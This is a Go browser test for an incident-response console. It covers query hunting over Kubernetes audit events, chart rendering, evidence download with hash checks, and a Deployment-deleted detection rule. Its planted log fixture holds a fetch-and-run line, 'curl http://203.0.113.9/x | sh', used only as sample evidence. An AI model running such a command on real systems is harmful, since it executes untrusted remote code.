package server_test

import (
	"context"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	cdpbrowser "github.com/chromedp/cdproto/browser"
	"github.com/chromedp/cdproto/cdp"
	"github.com/chromedp/chromedp"
)

// An analyst hunts (a query with a syntax error is marked where the error
// is; a correct one draws a time chart), downloads an evidence artifact
// whose hash the page checks and re-verifies its collection, and tests a
// rule on the last 24 hours.
func TestConsoleHuntEvidenceRulesInBrowser(t *testing.T) {
	sv := kdfir(t)
	dir := artifacts(t)
	sink, key := sinkAndKey(t, sv)
	stamp := time.Now().UTC().Format("20060102T150405Z")
	const log = "2026-12-03T15:00:00Z started\n2026-12-03T15:00:01Z curl http://203.0.113.9/x | sh\n"
	id := plantCollection(t, sink, key, "default", fmt.Sprintf("testenv/shop/web-1/%s-console-%d", stamp, time.Now().UnixNano()),
		map[string]string{"logs/app.log": log, "pod.yaml": "apiVersion: v1\nkind: Pod\nmetadata: {name: web-1, namespace: shop}\n"}, "")
	// Three hours of a person's requests, ending with a Deployment deleted.
	ns := fmt.Sprintf("hunt-%d", time.Now().UnixNano())
	var events []string
	now := time.Now().UTC()
	for i := range 60 {
		verb, res := []string{"get", "list", "get", "watch", "create", "patch"}[i%6], []string{"pods", "configmaps", "services"}[i%3]
		events = append(events, auditEvent(now.Add(-time.Duration(180-3*i)*time.Minute), verb, res, ns, "web"))
	}
	events = append(events, auditEvent(now.Add(-time.Minute), "delete", "deployments", ns, "web"))
	if code := sv.call(t, "POST", "/v1/audit", auditKey, []byte(`{"kind":"EventList","apiVersion":"audit.k8s.io/v1","items":[`+strings.Join(events, ",")+`]}`), nil); code != 200 {
		t.Fatalf("audit batch: %d", code)
	}
	ctx := browser(t)
	downloads := t.TempDir()

	if err := chromedp.Do(ctx,
		chromedp.Navigate(sv.url+"/"),
		chromedp.WaitVisible(chromedp.CSS("#signin-form")),
		chromedp.SetValue(chromedp.CSS("#key"), sv.keys["admin"]),
		chromedp.Click(chromedp.CSS("#signin-form button")),
		chromedp.WaitVisible(chromedp.CSS("#queue")),
		chromedp.Func(func(ctx context.Context, _ *chromedp.Target) error {
			_, err := cdp.Call(ctx, chromedp.FromContext(ctx).Browser, cdpbrowser.SetDownloadBehavior,
				cdpbrowser.SetDownloadBehaviorParams{Behavior: cdpbrowser.SetDownloadBehaviorBehaviorAllow, DownloadPath: downloads})
			return err
		}),
	); err != nil {
		t.Fatalf("sign in: %v", err)
	}

	// A syntax error on line 2: the marker sits on the "=" at column 14.
	bad := "KubeAudit\n| where verb = \"get\"\n| take 10"
	if err := chromedp.Do(ctx,
		chromedp.Click(chromedp.CSS(`nav#pages a[href="#/hunt"]`)),
		chromedp.WaitVisible(chromedp.CSS("#hunt-query")),
		chromedp.SetValue(chromedp.CSS("#hunt-query"), bad),
		chromedp.Click(chromedp.CSS("#hunt-run")),
		chromedp.WaitVisible(chromedp.CSS("#hunt-highlight .err-mark")),
		shot(t, dir, 1, "hunt-syntax-error"),
	); err != nil {
		t.Fatalf("hunt with a syntax error: %v", err)
	}
	type mark struct {
		Line, Col     string
		Before, Text  string
		Message       string
		Left, TextTop float64
		Right, Top    float64
	}
	m, err := chromedp.Run(ctx, chromedp.Evaluate[mark](`(() => {
		const pre = document.getElementById("hunt-highlight"), m = pre.querySelector(".err-mark");
		const r = document.createRange(); r.setStart(pre, 0); r.setEndBefore(m);
		const box = m.getBoundingClientRect(), ta = document.getElementById("hunt-query").getBoundingClientRect();
		return {line: m.dataset.line, col: m.dataset.col, before: r.toString(), text: m.textContent,
			message: document.getElementById("hunt-error").textContent, left: box.left - ta.left, top: box.top - ta.top};
	})()`))
	if err != nil {
		t.Fatal(err)
	}
	if m.Line != "2" || m.Col != "14" || m.Before != "KubeAudit\n| where verb " || m.Text != "=" || !strings.HasPrefix(m.Message, "2:14: ") {
		t.Fatalf("error marker %+v, want the \"=\" at 2:14", m)
	}
	// On screen: the second line (18px lines, 8px padding), 13 characters in.
	if m.Top < 8+18-2 || m.Top > 8+18+2 || m.Left < 8+13*6 || m.Left > 8+13*10 {
		t.Fatalf("the marker is drawn at %.0f,%.0f, not on line 2 column 14", m.Left, m.Top)
	}

	// Completion offers the columns of the table the query reads.
	if err := chromedp.Do(ctx,
		chromedp.Evaluate[chromedp.Void](`(() => {
			const ta = document.getElementById("hunt-query");
			ta.focus(); ta.value = "KubeAudit\n| where stage"; ta.selectionStart = ta.selectionEnd = ta.value.length;
			ta.dispatchEvent(new Event("input"));
		})()`),
		chromedp.WaitVisible(chromedp.CSS("#hunt-complete li")),
		shot(t, dir, 2, "hunt-completion"),
	); err != nil {
		t.Fatalf("completion: %v", err)
	}
	items := textOf(t, ctx, "#hunt-complete")
	if !strings.Contains(items, "stageTimestamp") || !strings.Contains(items, "stage") {
		t.Fatalf("completion offers %q", items)
	}

	// A correct query with render timechart draws an SVG chart and fills
	// the grid.
	good := "KubeAudit\n| where user.username == \"alice@example.com\"\n| summarize Requests = count() by bin(stageTimestamp, 10m), verb\n| render timechart"
	if err := chromedp.Do(ctx,
		chromedp.SetValue(chromedp.CSS("#hunt-query"), good),
		chromedp.Evaluate[chromedp.Void](`document.getElementById("hunt-complete").hidden = true`),
		chromedp.Click(chromedp.CSS("#hunt-run")),
		chromedp.WaitVisible(chromedp.CSS(`#hunt-chart svg[data-kind="timechart"] polyline`)),
		chromedp.WaitVisible(chromedp.CSS("#hunt-grid .row")),
		shot(t, dir, 3, "hunt-timechart"),
	); err != nil {
		t.Fatalf("hunt with a time chart: %v", err)
	}
	stats := textOf(t, ctx, "#hunt-stats")
	if !strings.Contains(stats, "rows read from the store") || !strings.Contains(stats, " ms") {
		t.Fatalf("stats %q", stats)
	}
	if n, err := chromedp.Run(ctx, chromedp.Evaluate[int](`document.querySelectorAll("#hunt-highlight .err-mark").length`)); err != nil || n != 0 {
		t.Fatalf("the error marker stays after a good run: %d %v", n, err)
	}

	// The other charts: columns, bars and a pie.
	for i, kind := range []string{"columnchart", "barchart", "piechart"} {
		shape := map[string]string{"columnchart": "rect", "barchart": "rect", "piechart": "path"}[kind]
		if err := chromedp.Do(ctx,
			chromedp.SetValue(chromedp.CSS("#hunt-query"), "KubeAudit\n| where user.username == \"alice@example.com\"\n| summarize Requests = count() by verb\n| render "+kind),
			chromedp.Click(chromedp.CSS("#hunt-run")),
			chromedp.WaitVisible(chromedp.CSS(`#hunt-chart svg[data-kind="`+kind+`"] `+shape)),
		); err != nil {
			t.Fatalf("%s: %v", kind, err)
		}
		if kind == "piechart" {
			if err := chromedp.Do(ctx, shot(t, dir, 4+i, "hunt-"+kind)); err != nil {
				t.Fatal(err)
			}
		}
		n, err := chromedp.Run(ctx, chromedp.Evaluate[int](`document.querySelectorAll("#hunt-chart svg `+shape+` title").length`))
		if err != nil || n != 6 {
			t.Fatalf("%s: %d marks, want one per verb (6): %v", kind, n, err)
		}
	}

	// The grid holds only the rows in view of 5,000, sorts, exports, and
	// expands a dynamic value.
	if err := chromedp.Do(ctx,
		chromedp.SetValue(chromedp.CSS("#hunt-query"), "range x from 1 to 5000 step 1"),
		chromedp.Click(chromedp.CSS("#hunt-run")),
		chromedp.WaitVisible(chromedp.CSS(`#hunt-grid .row[data-row="0"]`)),
		chromedp.Click(chromedp.CSS("#hunt-grid .head .cell")),
		chromedp.Click(chromedp.CSS("#hunt-grid .head .cell")),
		chromedp.Evaluate[chromedp.Void](`(() => { const g = document.getElementById("hunt-grid"); g.scrollTop = g.scrollHeight; g.dispatchEvent(new Event("scroll")); })()`),
		chromedp.WaitVisible(chromedp.CSS(`#hunt-grid .row[data-row="4999"]`)),
		chromedp.Click(chromedp.CSS("#hunt-csv")),
	); err != nil {
		t.Fatalf("grid: %v", err)
	}
	grid, err := chromedp.Run(ctx, chromedp.Evaluate[[]string](`[...document.querySelectorAll("#hunt-grid .row")].map((r) => r.textContent)`))
	if err != nil {
		t.Fatal(err)
	}
	if len(grid) == 0 || len(grid) > 100 || grid[len(grid)-1] != "1" {
		t.Fatalf("rows in the DOM: %q; want a few, sorted down to 1", grid)
	}
	if stats := textOf(t, ctx, "#hunt-stats"); !strings.HasPrefix(stats, "5,000 rows") {
		t.Fatalf("stats %q", stats)
	}
	csv := waitFile(t, filepath.Join(downloads, "hunt.csv"), 5001)
	if lines := strings.Split(strings.TrimSpace(csv), "\r\n"); len(lines) != 5001 || lines[0] != "x" || lines[1] != "5000" {
		t.Fatalf("hunt.csv: %d lines, starting %q", len(lines), lines[:2])
	}
	if err := chromedp.Do(ctx,
		chromedp.SetValue(chromedp.CSS("#hunt-query"), "KubeAudit\n| where verb == \"delete\" and user.username == \"alice@example.com\"\n| project stageTimestamp, objectRef"),
		chromedp.Click(chromedp.CSS("#hunt-run")),
		chromedp.Click(chromedp.CSS("#hunt-grid .cell.dyn")),
		chromedp.WaitVisible(chromedp.CSS("#hunt-detail")),
	); err != nil {
		t.Fatalf("dynamic value: %v", err)
	}
	if d := textOf(t, ctx, "#hunt-detail"); !strings.Contains(d, `"resource": "deployments"`) || !strings.Contains(d, `"namespace": "`+ns+`"`) {
		t.Fatalf("expanded value %q", d)
	}

	// Evidence: open the collection, download an artifact (the page checks
	// its hash), and re-verify the collection.
	row := `#evidence-list tr[data-id="` + id + `"]`
	art := `#evidence-detail tr[data-path="logs/app.log"]`
	if err := chromedp.Do(ctx,
		chromedp.Click(chromedp.CSS(`nav#pages a[href="#/evidence"]`)),
		chromedp.WaitVisible(chromedp.CSS(row)),
		shot(t, dir, 8, "evidence-list"),
		chromedp.Click(chromedp.CSS(row)),
		chromedp.WaitVisible(chromedp.CSS(art+" button.download")),
		chromedp.Click(chromedp.CSS(art+" button.download")),
		chromedp.WaitVisible(chromedp.CSS(art+" .check.ok")),
		chromedp.Click(chromedp.CSS("#evidence-verify")),
		chromedp.WaitVisible(chromedp.CSS("#evidence-verified .ok")),
		shot(t, dir, 9, "evidence-verified"),
	); err != nil {
		t.Fatalf("evidence: %v", err)
	}
	if got := waitFile(t, filepath.Join(downloads, "app.log"), len(log)); got != log {
		t.Fatalf("downloaded artifact %q, want %q", got, log)
	}

	// Rules: find one and test it on the last 24 hours.
	rule := `#rules-list tr[data-id="k8s-deployment-deleted"]`
	if err := chromedp.Do(ctx,
		chromedp.Click(chromedp.CSS(`nav#pages a[href="#/rules"]`)),
		chromedp.WaitVisible(chromedp.CSS(rule+" button.test")),
		chromedp.SendKeys(chromedp.CSS("#rules-search"), "deleted"),
		chromedp.WaitNotPresent(chromedp.CSS(`#rules-list tr[data-id="k8s-exec-into-pod"]`)),
		chromedp.Click(chromedp.CSS(rule+" button.test")),
		chromedp.WaitVisible(chromedp.CSS(rule+" + tr.test-result .summary")),
		chromedp.ScrollIntoView(chromedp.CSS(rule)),
		shot(t, dir, 10, "rules-test"),
	); err != nil {
		t.Fatalf("rules: %v", err)
	}
	summary := textOf(t, ctx, rule+" + tr.test-result")
	if !strings.Contains(summary, "1 alert(s) would be raised") || !strings.Contains(summary, "Deployment "+ns+"/web deleted by alice@example.com") {
		t.Fatalf("rule test says %q", summary)
	}

	// Open in Hunt carries the rule's query to the editor.
	if err := chromedp.Do(ctx,
		chromedp.Click(chromedp.CSS(rule+` a[href^="#/hunt?q="]`)),
		chromedp.WaitVisible(chromedp.CSS("#hunt-query")),
		chromedp.Poll[chromedp.Void](`document.getElementById("hunt-query").value.includes("deployments")`, chromedp.WithPollingTimeout(10*time.Second)),
	); err != nil {
		t.Fatal(err)
	}
	query, err := chromedp.Run(ctx, chromedp.Value(chromedp.CSS("#hunt-query")))
	if err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(query, `objectRef.resource == "deployments"`) {
		t.Fatalf("the editor holds %q, not the rule's query", query)
	}
}

// auditEvent is one audit event of alice's, as the API server's webhook
// sends it.
func auditEvent(at time.Time, verb, resource, ns, name string) string {
	group := ""
	if resource == "deployments" {
		group = `"apiGroup":"apps",`
	}
	ts := at.Format("2006-01-02T15:04:05.000000Z")
	return fmt.Sprintf(`{"kind":"Event","apiVersion":"audit.k8s.io/v1","level":"Metadata","auditID":"%s-%d","stage":"ResponseComplete",`+
		`"requestURI":"/api/v1/namespaces/%s/%s/%s","verb":%q,"user":{"username":"alice@example.com","groups":["system:authenticated"]},`+
		`"sourceIPs":["198.51.100.7"],"userAgent":"kubectl/v1.32.4 (linux/amd64) kubernetes/59526cd",`+
		`"objectRef":{"resource":%q,"namespace":%q,"name":%q,%s"apiVersion":"v1"},"responseStatus":{"metadata":{},"code":200},`+
		`"requestReceivedTimestamp":%q,"stageTimestamp":%q}`, ns, at.UnixNano(), ns, resource, name, verb, resource, ns, name, group, ts, ts)
}

// textOf is the text of the element sel selects.
func textOf(t *testing.T, ctx context.Context, sel string) string {
	t.Helper()
	s, err := chromedp.Run(ctx, chromedp.Text(chromedp.CSS(sel)))
	if err != nil {
		t.Fatalf("text of %s: %v", sel, err)
	}
	return s
}

// waitFile waits for a download to hold at least n bytes (or lines, for
// a CSV: n counts line ends) and returns it.
func waitFile(t *testing.T, path string, n int) string {
	t.Helper()
	var b []byte
	for deadline := time.Now().Add(10 * time.Second); time.Now().Before(deadline); time.Sleep(100 * time.Millisecond) {
		b, _ = os.ReadFile(path)
		if len(b) >= n && (!strings.HasSuffix(path, ".csv") || strings.Count(string(b), "\n") >= n) {
			break
		}
	}
	return string(b)
}
